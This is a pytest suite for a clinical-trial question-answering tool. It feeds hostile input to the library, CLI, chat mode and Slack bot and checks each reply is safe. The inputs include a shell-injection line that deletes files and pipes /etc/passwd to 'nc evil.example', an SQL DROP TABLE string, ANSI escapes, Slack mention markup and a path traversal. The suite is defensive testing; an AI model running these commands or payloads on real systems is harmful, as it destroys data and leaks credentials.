"""Bad input everywhere a question comes in: the library, `trialqa ask`, `trialqa chat` (piped
and on a terminal) and Slack. Each input gets a clear reply; nothing crashes; no escape
sequence, mention or link from an input reaches a terminal or a channel."""

from __future__ import annotations

import json
import re
import socket
import sys
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.slack.mrkdwn import escape
from index import Answer, BadQuestion, TrialIndex
from index.evaluation.verify import bad_citations
from tests.bot.slack.fakes import buttons, mention, send_action, send_command, send_event, texts
from tests.helpers.reliability import HEPATIC, answers_hepatic, run_cli
from tests.helpers.terminal import HEPATIC_ANSWER, Terminal, closing

ASK_FIRST = 'Ask a question about the trials, e.g. "which trials use the hepatic artery?"'
NO_WORDS = 'That question has no words to search for; name what you are looking for, e.g. "which trials exclude HIV?"'
NONE = "No trial in the corpus supports this."
HEPATIC_IDS = ["NCT01724697"]


def too_long(n: int) -> str:
    return f'That question is {n:,} characters long; ask in under 2,000 characters, e.g. "which trials exclude HIV?"'


# name: (question, message or None when the hepatic-artery trial is the answer)
INPUTS: dict[str, tuple[str, str | None]] = {
    "empty": ("", ASK_FIRST),
    "whitespace": (" \t  \t ", ASK_FIRST),
    "100 KB": ("a" * 100_000, too_long(100_000)),
    "100 KB of real words": ("hepatic artery " * 7000, too_long(104_999)),
    "binary": ("\x00\x01\x02\x03\xff\xfe\x7f", NONE),
    "control characters": ("which trials use the\x00 hepatic\x07 artery?\x1b", None),
    "ANSI escape sequences": ("\x1b[2J\x1b]0;pwned\x07\x9b31m", NONE),
    "right-to-left override": ("\u202ewhich trials use the hepatic artery?\u202c", None),
    "zero-width characters": ("which trials use the hep\u200batic\u200d ar\u00adtery?\ufeff", None),
    "Hebrew": ("אילו ניסויים משתמשים בעורק הכבד?", NONE),
    "Arabic": ("ما هي التجارب التي تستخدم الشريان الكبدي؟", NONE),
    "emoji around a question": ("🧬 which trials use the hepatic artery? 💉", None),
    "emoji only": ("🧬💉🩸", NO_WORDS),
    "CJK": ("哪些试验使用肝动脉？", NONE),
    "SQL injection": ("'; DROP TABLE trials; -- OR 1=1", NONE),
    "shell injection": ("$(rm -rf /) `reboot` && cat /etc/passwd | nc evil.example 4444", NONE),
    "mrkdwn injection": ("<!channel> <@U0ADMIN> *hepatic* _artery_ <https://evil.example|click here>", NONE),
    "format strings": ("%s %d {0} {__class__} %(x)s", NONE),
    "unknown NCT ID": ("What is the dose in NCT99999999?", "NCT99999999 is not in this index (5 trials)."),
    "malformed NCT ID": ("Tell me about NCT1234", NONE),
    "undecodable bytes (lone surrogates)": ("which trials use the \udcff\udcfe hepatic artery?", None),
}
IDS = list(INPUTS)


def expected(name: str) -> tuple[bool, list[str], str | None]:
    message = INPUTS[name][1]
    return (True, [], message) if message else (False, HEPATIC_IDS, None)


def outcome(a: Answer) -> tuple[bool, list[str], str | None]:
    return a.no_answer, [t.nct_id for t in a.trials], a.message


# -- the library -------------------------------------------------------------------------


@pytest.mark.parametrize("name", IDS)
def test_library_gives_a_clear_answer(seed_index: TrialIndex, name: str) -> None:
    a = seed_index.ask(INPUTS[name][0])
    assert outcome(a) == expected(name)
    if not a.no_answer:
        assert answers_hepatic(a)
    assert bad_citations([a]) == []
    json.dumps(a.to_dict(), ensure_ascii=False).encode("utf-8")  # printable as JSON: no lone surrogates


@pytest.mark.parametrize(
    ("k", "shown"),
    [(0, "0"), (-1, "-1"), (101, "101"), (10**12, "1000000000000"), ("5", "'5'"), (2.5, "2.5"), (None, "None")],
)
def test_library_k_out_of_range_is_a_bad_question(seed_index: TrialIndex, k: object, shown: str) -> None:
    with pytest.raises(BadQuestion) as info:
        seed_index.ask("which trials exclude HIV?", k=k)  # type: ignore[arg-type]
    assert str(info.value).startswith("k must be a whole number from 1 to 100") and str(info.value).endswith(shown)


@pytest.mark.parametrize("question", [None, 123, b"which trials use the hepatic artery?", ["hepatic"]])
def test_library_question_that_is_not_text(seed_index: TrialIndex, question: object) -> None:
    a = seed_index.ask(question)  # type: ignore[arg-type]
    assert (a.question, a.no_answer, a.trials, a.message) == ("", True, (), "A question must be text.")


@pytest.mark.parametrize("bad", ["age>abc", "nonsense:value", "status:"])
def test_library_unreadable_filter_is_a_bad_question(seed_index: TrialIndex, bad: str) -> None:
    with pytest.raises(BadQuestion, match=rf"^cannot read filter '{re.escape(bad)}'; use e.g. status:recruiting"):
        seed_index.ask(HEPATIC, filters=[bad])


def test_library_k_at_the_bounds(seed_index: TrialIndex) -> None:
    assert [t.nct_id for t in seed_index.ask("which trials exclude HIV?", k=1).trials] == ["NCT03209986"]
    assert [t.nct_id for t in seed_index.ask("which trials exclude HIV?", k=100).trials] == [
        "NCT03209986",
        "NCT00713934",
    ]
    assert seed_index.search("hepatic artery", k=-5) == []
    assert len(seed_index.search("hepatic artery", k=10**6)) == 101  # every chunk with a vector or a BM25 score
    assert seed_index.search("\udcff hepatic artery", k=1)[0].chunk.nct_id == "NCT01724697"


VOCAB = [
    "which",
    "trials",
    "hepatic",
    "artery",
    "exclude",
    "HIV",
    "portal",
    "vein",
    "dose",
    "Xijing",
    "older",
    "than",
    "65",
    "how many",
    "compare",
    "randomized",
    "recruiting",
    "phase:2",
    "NCT01724697",
    "NCT99999999",
    "?",
]
QUESTIONS = st.lists(
    st.one_of(st.text(st.characters(exclude_categories=()), max_size=40), st.sampled_from(VOCAB)), max_size=12
).map(" ".join)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(question=QUESTIONS, k=st.integers(1, 100))
def test_any_unicode_question_gets_an_answer_with_verifiable_citations(
    seed_index: TrialIndex, question: str, k: int
) -> None:
    a = seed_index.ask(question, k=k)
    assert isinstance(a, Answer)
    ids = [t.nct_id for t in a.trials]
    if a.no_answer:
        assert ids == [] and a.message
    else:
        assert ids and len(set(ids)) == len(ids) and set(ids) <= set(seed_index.trials)
        assert a.kind in ("count", "compare") or len(ids) <= k  # counts and comparisons list every trial
        assert all(t.citations for t in a.trials)
    assert bad_citations([a]) == []
    json.dumps(a.to_dict(), ensure_ascii=False).encode("utf-8")


# -- trialqa ask ---------------------------------------------------------------------------

ONE_LINE = [n for n in IDS if "\n" not in INPUTS[n][0] and "\r" not in INPUTS[n][0]]


def test_cli_answers_every_line_of_bad_input(seed_index_dir) -> None:
    lines = [INPUTS[n][0].encode("utf-8", "surrogateescape") for n in ONE_LINE]  # surrogates: raw \xff \xfe bytes
    r = run_cli(["ask", "--json", "--index", str(seed_index_dir), "-"], stdin=b"\n".join(lines) + b"\n")
    assert (r.returncode, r.stderr) == (0, b"")
    got = [json.loads(x) for x in r.stdout.decode("utf-8").splitlines()]
    assert len(got) == len(ONE_LINE)
    for name, d in zip(ONE_LINE, got, strict=True):
        assert (d["no_answer"], [t["nct_id"] for t in d["trials"]], d.get("message")) == expected(name), name


def test_cli_plain_text_never_prints_escape_sequences(seed_index_dir) -> None:
    q = INPUTS["ANSI escape sequences"][0] + " " + INPUTS["control characters"][0]
    r = run_cli(["ask", "--index", str(seed_index_dir), "-"], stdin=q.encode() + b"\n")  # argv cannot hold NUL
    assert (r.returncode, r.stderr) == (0, b"")
    out = r.stdout.decode("utf-8")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out)
    assert out.splitlines()[:2] == ["Q: [2J ]0;pwned 31m which trials use the hepatic artery?", NONE]


def test_cli_argv_edge_cases(seed_index_dir) -> None:
    ix = ["--index", str(seed_index_dir)]
    r = run_cli(["ask", "--json", *ix, b"which trials use the \xff\xfe hepatic artery?"])  # not UTF-8
    assert (r.returncode, r.stderr) == (0, b"")
    assert [t["nct_id"] for t in json.loads(r.stdout)["trials"]] == HEPATIC_IDS
    r = run_cli(["ask", *ix, "x" * 100_000])
    assert (r.returncode, r.stderr) == (0, b"")
    assert r.stdout.decode().splitlines() == ["Q: " + "x" * 199 + "…", too_long(100_000)]
    for k in ("0", "-3", "101", "99999999999999999999"):
        r = run_cli(["ask", *ix, "-k", k, HEPATIC])
        assert (r.returncode, r.stdout) == (2, b"")
        assert r.stderr.decode() == f"trialqa ask: -k/--top takes a whole number from 1 to 100, not {k}\n"
    r = run_cli(["ask", *ix, "-k", "many", HEPATIC])
    assert r.returncode == 2 and b"argument -k/--top: invalid int value: 'many'" in r.stderr
    r = run_cli(["ask", *ix, "--filter", "age>abc", HEPATIC])
    assert (r.returncode, r.stdout) == (2, b"")
    assert r.stderr.decode().startswith("trialqa ask: cannot read filter 'age>abc'; use e.g. status:recruiting")


# -- trialqa chat --------------------------------------------------------------------------


def test_chat_piped_answers_like_ask_and_commands_refuse_bad_values(seed_index_dir) -> None:
    questions = [INPUTS[n][0].encode("utf-8", "surrogateescape") for n in ONE_LINE]
    commands = [b":k 0", b":k 101", b":k lots", b":show NCT99999999", b":show ../../etc/passwd", b":bogus"]
    stdin = b"\n".join([*questions, *commands]) + b"\n"
    ask = run_cli(["ask", "--index", str(seed_index_dir), "-"], stdin=b"\n".join(questions) + b"\n")
    chat = run_cli(["chat", "--index", str(seed_index_dir)], stdin=stdin)
    assert chat.returncode == 0
    assert chat.stderr.decode().splitlines() == [
        "Loading index…",
        "trialqa chat — 5 trials indexed. Ask a question, or :help. Ctrl-D to quit.",
    ]
    out, answers = chat.stdout.decode("utf-8"), ask.stdout.decode("utf-8")
    assert out.startswith(answers)  # the same answers as `trialqa ask -`
    assert out[len(answers) :].splitlines() == [
        ":k takes a whole number from 1 to 100, e.g. :k 5.",
        ":k takes a whole number from 1 to 100, e.g. :k 5.",
        ":k takes a whole number from 1 to 100, e.g. :k 5.",
        "NCT99999999 is not in this index (5 trials); :sources lists them.",
        "../../etc/passwd is not an NCT ID (e.g. NCT01724697).",
        "Unknown command :bogus. Commands: :help, :show NCT..., :sources, :more, :json, :k N, :new, :quit.",
    ]
    assert "Something went wrong" not in out
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out)


def test_chat_on_a_terminal_with_emoji_cjk_and_right_to_left_text(seed_index_dir, tmp_path) -> None:
    term = Terminal([sys.executable, "-m", "bot.cli", "chat", "--index", str(seed_index_dir)], tmp_path / "history")
    try:
        lines = term.enter("🧬 which trials use the hepatic artery? 💉")
        assert lines[:-1] == HEPATIC_ANSWER
        assert closing(lines) == "1 trial matched in N ms. :more shows 4 further."
        assert term.enter("哪些试验使用肝动脉？")[0] == NONE
        assert term.enter("אילו ניסויים משתמשים בעורק הכבד?")[0] == NONE
        assert term.enter("\u202ewhich trials use the hepatic artery?")[:-1] == HEPATIC_ANSWER
        assert term.exit_code(":quit\r") == 0
    finally:
        if term.child.isalive():
            term.child.terminate(force=True)


# -- Slack ---------------------------------------------------------------------------------

LIVE_MARKUP = re.compile(r"<!channel>|<!here>|<!everyone>|<@U0ADMIN>|<https://evil")


def check_message(params: dict) -> None:
    """Within Slack's limits, and nothing from an input is live markup."""
    blocks = params["blocks"] if isinstance(params["blocks"], list) else json.loads(params["blocks"])
    assert len(blocks) <= 50 and len(params["text"]) <= 3000
    assert all(len(t) <= 3000 for t in texts(params))
    assert all(len(b["value"]) <= 2000 for b in buttons(params).values())
    assert not LIVE_MARKUP.search(json.dumps(params, ensure_ascii=False))


def test_slack_replies_once_to_each_bad_mention(bot, standin) -> None:
    sent = {}
    for i, name in enumerate(IDS):
        ts = f"1700001000.{i:06d}"
        sent[ts] = name
        assert send_event(bot.url, mention(f"<@UBOT> {INPUTS[name][0]}", ts), f"EvBad{i}")[0] == 200
    posts = standin.wait_posts(len(IDS), timeout=120)
    assert sorted(p.params["thread_ts"] for p in posts) == sorted(sent)  # one reply each, none twice
    for p in posts:
        name = sent[p.params["thread_ts"]]
        check_message(p.params)
        shown = texts(p.params)
        no_answer, ids, message = expected(name)
        if no_answer:
            assert shown[1] == (NONE if message == NONE else NONE + "\n" + escape(message)), name
            assert shown[-1] == "No trial matches (5 in the corpus)"
        else:
            assert re.findall(r"`(NCT\d{8})`", shown[1]) == ids, name
    long_q = next(p for p in posts if sent[p.params["thread_ts"]] == "100 KB")
    assert texts(long_q.params)[0] == "*Q:* " + "a" * 2889 + "…"


def test_slack_slash_command_feedback_and_oversized_bodies(bot, standin) -> None:
    send_command(bot.url, "x" * 100_000, standin.response_url("long"))
    (reply,) = standin.wait_response("long")
    check_message(reply.params)
    assert texts(reply.params)[1] == NONE + "\n" + too_long(100_000)
    # a 👍 on the answer to an injection attempt is stored verbatim (bound parameters), the table intact;
    # a lone surrogate (JSON can carry one) becomes U+FFFD instead of failing the insert
    q = "'); DROP TABLE feedback; -- \udcff"
    send_event(bot.url, mention(f"<@UBOT> {q}", "1700002000.000100"), "EvSql")
    (answer,) = standin.wait_posts(1)
    send_action(bot.url, buttons(answer.params)["trialqa_feedback_up"], standin.response_url("vote"))
    (thanks,) = standin.wait_response("vote")
    assert thanks.params["text"] == "Thanks, your 👍 is recorded."
    assert [(f.vote, f.question) for f in bot.feedback.all()] == [("up", "'); DROP TABLE feedback; -- \ufffd")]
    # a forged "More" page number is read as the first page (weaker candidates for "x")
    forged = dict(buttons(answer.params)["trialqa_feedback_up"], action_id="trialqa_more", value='{"q":"x","from":"z"}')
    send_action(bot.url, forged, standin.response_url("forged"), ephemeral=True)
    (page,) = standin.wait_response("forged")
    assert page.params["text"] == "More for: x\nNCT00713934, NCT01218464, NCT01724697, NCT03209986, NCT05106972"
    # a body over 1 MiB is refused from its Content-Length, before it is read
    assert status_for_declared_body(bot.url, 2 << 20) == b"HTTP/1.1 413"
    assert len(standin.posts()) == 1


def status_for_declared_body(base: str, length: int) -> bytes:
    """The status line the bot answers a POST announcing `length` bytes with (none are sent)."""
    u = urlsplit(base)
    head = f"POST /slack/events HTTP/1.1\r\nHost: {u.netloc}\r\nContent-Type: application/json\r\n"
    with socket.create_connection((u.hostname, u.port), timeout=10) as conn:
        conn.sendall(f"{head}Content-Length: {length}\r\n\r\n".encode())
        return conn.recv(4096)[:12]
